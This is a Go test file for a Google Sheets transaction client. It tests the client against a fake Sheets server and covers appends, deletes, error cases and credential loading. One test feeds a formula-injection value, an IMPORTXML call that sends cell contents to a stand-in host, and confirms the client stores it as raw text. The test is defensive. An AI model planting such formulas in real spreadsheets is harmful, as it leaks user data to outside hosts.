package google

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"finance/internal/core"
	applog "finance/internal/log"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	goption "google.golang.org/api/option"
)

// fakeSheets serves the handful of Sheets v4 endpoints the client calls,
// backed by an in-memory grid.
type fakeSheets struct {
	mu           sync.Mutex
	rows         [][]interface{}
	sheetGets    int
	failGet      bool
	inputOptions []string
}

func (f *fakeSheets) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	path := r.URL.Path
	w.Header().Set("Content-Type", "application/json")

	switch {
	case r.Method == http.MethodGet && strings.Contains(path, "/values/"):
		if f.failGet {
			http.Error(w, `{"error":{"code":500,"message":"backend error"}}`, http.StatusInternalServerError)
			return
		}
		col := make([][]interface{}, 0, len(f.rows))
		for _, row := range f.rows {
			col = append(col, row[:1])
		}
		resp := map[string]interface{}{"range": "Transactions!A1:A1000", "majorDimension": "ROWS"}
		if len(col) > 0 {
			resp["values"] = col
		}
		_ = json.NewEncoder(w).Encode(resp)

	case r.Method == http.MethodPost && strings.HasSuffix(path, ":append"):
		var body struct {
			Values [][]interface{} `json:"values"`
		}
		if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		f.inputOptions = append(f.inputOptions, r.URL.Query().Get("valueInputOption"))
		f.rows = append(f.rows, body.Values...)
		_, _ = w.Write([]byte(`{}`))

	case r.Method == http.MethodPost && strings.HasSuffix(path, ":batchUpdate"):
		var body struct {
			Requests []struct {
				DeleteDimension struct {
					Range struct {
						StartIndex int `json:"startIndex"`
						EndIndex   int `json:"endIndex"`
					} `json:"range"`
				} `json:"deleteDimension"`
			} `json:"requests"`
		}
		if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		for _, req := range body.Requests {
			rng := req.DeleteDimension.Range
			f.rows = append(f.rows[:rng.StartIndex], f.rows[rng.EndIndex:]...)
		}
		_, _ = w.Write([]byte(`{}`))

	case r.Method == http.MethodGet:
		f.sheetGets++
		_, _ = w.Write([]byte(`{"spreadsheetId":"sid","sheets":[{"properties":{"sheetId":0,"title":"Other"}},{"properties":{"sheetId":77,"title":"Transactions"}}]}`))

	default:
		http.NotFound(w, r)
	}
}

func newTestClient(t *testing.T, fake *fakeSheets) *Client {
	t.Helper()
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)

	c, err := New(context.Background(), "sid", "", applog.Discard(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithHTTPClient(srv.Client()))
	require.NoError(t, err)
	return c
}

func sampleTx(id int64) core.Transaction {
	return core.Transaction{
		ID:        id,
		UserID:    "u1",
		Title:     "Coffee",
		Amount:    core.Money{Cents: -450},
		Category:  "food",
		CreatedAt: time.Date(2025, 5, 20, 10, 0, 0, 0, time.UTC),
	}
}

func TestClientDefaultsSheetName(t *testing.T) {
	c := newTestClient(t, &fakeSheets{})
	assert.Equal(t, "Transactions", c.SheetName())
}

func TestAppendTransactionWritesHeaderOnce(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)
	ctx := context.Background()

	require.NoError(t, c.AppendTransaction(ctx, sampleTx(1)))
	require.NoError(t, c.AppendTransaction(ctx, sampleTx(2)))

	require.Len(t, fake.rows, 3)
	assert.Equal(t, "ID", fake.rows[0][0])
	assert.Equal(t, "1", fake.rows[1][0])
	assert.Equal(t, "-4.50", fake.rows[1][4])
	assert.Equal(t, "2", fake.rows[2][0])
}

func TestAppendTransactionIsIdempotent(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)
	ctx := context.Background()

	require.NoError(t, c.AppendTransaction(ctx, sampleTx(5)))
	require.NoError(t, c.AppendTransaction(ctx, sampleTx(5)))

	assert.Len(t, fake.rows, 2)
}

func TestDeleteTransaction(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)
	ctx := context.Background()

	for _, id := range []int64{1, 2, 3} {
		require.NoError(t, c.AppendTransaction(ctx, sampleTx(id)))
	}

	require.NoError(t, c.DeleteTransaction(ctx, 2))
	require.NoError(t, c.DeleteTransaction(ctx, 3))

	require.Len(t, fake.rows, 2)
	assert.Equal(t, "1", fake.rows[1][0])
	assert.Equal(t, 1, fake.sheetGets, "sheet id should be cached")
}

func TestDeleteTransactionMissingRow(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	require.NoError(t, c.DeleteTransaction(context.Background(), 404))
	assert.Equal(t, 0, fake.sheetGets)
}

func TestAppendTransactionReadFailure(t *testing.T) {
	c := newTestClient(t, &fakeSheets{failGet: true})

	err := c.AppendTransaction(context.Background(), sampleTx(1))
	require.Error(t, err)
	assert.Contains(t, err.Error(), "read Transactions!A:A")
}

func TestAppendTransactionWritesCellsRaw(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	tx := sampleTx(1)
	tx.Title = `=IMPORTXML("http://x/?"&C2,"//a")`
	tx.Category = "@SUM(A:A)"
	require.NoError(t, c.AppendTransaction(context.Background(), tx))

	assert.Equal(t, []string{"RAW"}, fake.inputOptions)
	require.Len(t, fake.rows, 2)
	assert.Equal(t, `=IMPORTXML("http://x/?"&C2,"//a")`, fake.rows[1][3])
	assert.Equal(t, "@SUM(A:A)", fake.rows[1][5])
}

func TestNewFromSettingsMissingSpreadsheetID(t *testing.T) {
	_, err := NewFromSettings(context.Background(), Settings{ServiceAccountJSON: `{}`}, applog.Discard())
	require.Error(t, err)
	assert.Equal(t, "missing spreadsheet id", err.Error())
}

func TestNewFromSettingsMissingCredentials(t *testing.T) {
	_, err := NewFromSettings(context.Background(), Settings{SpreadsheetID: "sid"}, applog.Discard())
	require.Error(t, err)
	assert.Equal(t, "missing service account credentials", err.Error())
}

func TestServiceAccountCredentials(t *testing.T) {
	t.Run("inline json wins", func(t *testing.T) {
		data, err := serviceAccountCredentials(`{"type":"service_account"}`, "/does/not/exist")
		require.NoError(t, err)
		assert.Equal(t, `{"type":"service_account"}`, string(data))
	})

	t.Run("file", func(t *testing.T) {
		path := filepath.Join(t.TempDir(), "sa.json")
		require.NoError(t, os.WriteFile(path, []byte(`{"k":1}`), 0600))
		data, err := serviceAccountCredentials("", path)
		require.NoError(t, err)
		assert.Equal(t, `{"k":1}`, string(data))
	})

	t.Run("unreadable file", func(t *testing.T) {
		_, err := serviceAccountCredentials("", filepath.Join(t.TempDir(), "missing.json"))
		require.Error(t, err)
		assert.Contains(t, err.Error(), "read service account file")
	})

	t.Run("missing", func(t *testing.T) {
		_, err := serviceAccountCredentials("  ", "")
		assert.Error(t, err)
	})
}
